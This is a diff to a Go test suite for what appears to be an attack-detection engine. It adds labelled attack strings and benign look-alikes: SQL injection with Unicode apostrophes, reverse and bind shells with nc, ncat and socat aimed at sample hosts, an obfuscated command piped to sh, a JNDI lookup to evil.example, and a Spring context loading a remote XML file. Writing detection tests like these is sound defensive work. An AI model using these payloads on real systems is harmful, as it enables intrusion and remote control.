@@ -6,12 +6,13 @@ import (
 	"testing"
 )
 
-// Attack grammars that hide in how a value is written or where it sits:
+// Attack shapes by class, each with the look-alikes that share its words:
 // a script scheme split by control characters, numeric references padded
-// with zeros, PHP superglobals as parameter names, Spring's XML contexts
-// handed a URL, and a traversal in an uploaded file's name; each with the
-// look-alikes that share its words.
-func TestGrammarObfuscation(t *testing.T) {
+// with zeros, SQL breakouts with quotes a legacy code page maps to the
+// apostrophe, Spring's XML contexts handed a URL, reverse shells and
+// commands on system directories, PHP superglobals as parameter names,
+// and a traversal in an uploaded file's name.
+func TestGrammarShapes(t *testing.T) {
 	eng, err := New(Config{})
 	if err != nil {
 		t.Fatal(err)
@@ -33,11 +34,30 @@ func TestGrammarObfuscation(t *testing.T) {
 		{"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.example/a}", true},
 		{"&#000000000000000000000000000000000060;script>alert(1)&#0000000000000000000000000000000062;/script>", true},
 		{"ticket &#00000000000000000000042; closed", false},
+		// Quotes a legacy code page turns into apostrophes.
+		{"1\u2019 OR \u20191\u2019=\u2019x\u2019#;--()", true},
+		{"\u2018 OR \u20181\u2018=\u2018x\u2018--", true},
+		{"x\u02bc or \u02bca\u02bc=\u02bca", true},
+		{"It\u2019s the \u2018best\u2019 or the worst", false},
+		{"Don\u2019t pick \u2018a\u2019 or \u2018b\u2019 before 5 o\u2019clock", false},
 		// Spring's XML application contexts given a URL to load.
 		{"com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://203.0.113.5/wb.xml')", true},
 		{"org.springframework.context.support.ClassPathXmlApplicationContext", true},
 		{`ApplicationContext ctx = new ClassPathXmlApplicationContext("beans.xml");`, false},
 		{"see org.springframework.context.support for the XML contexts", false},
+		// Reverse and bind shells, wherever they sit; output piped into
+		// a shell; commands on system directories.
+		{"nc 203.0.113.5 4444 -e /bin/sh", true},
+		{"\";\\n. shell nc 10.10.10.1 6666 -e sh\\n", true},
+		{"x && ncat -e /bin/bash 203.0.113.5 4444", true},
+		{"socat tcp-connect:203.0.113.5:4444 exec:sh,pty", true},
+		{"echo \"foo;whxam\"i | tr x o | sh #", true},
+		{"ls -la /etc/", true},
+		{"tar -xzf /var/www/exfiltrate.tar.gz /etc", true},
+		{"Use nc -l 8080 to listen", false},
+		{"Pipe the output | sh is not needed", false},
+		{"To extract: tar -xzf archive.tar.gz", false},
+		{"ls -la shows hidden files", false},
 	}
 	for _, c := range values {
 		for _, place := range []string{"query", "form", "json"} {
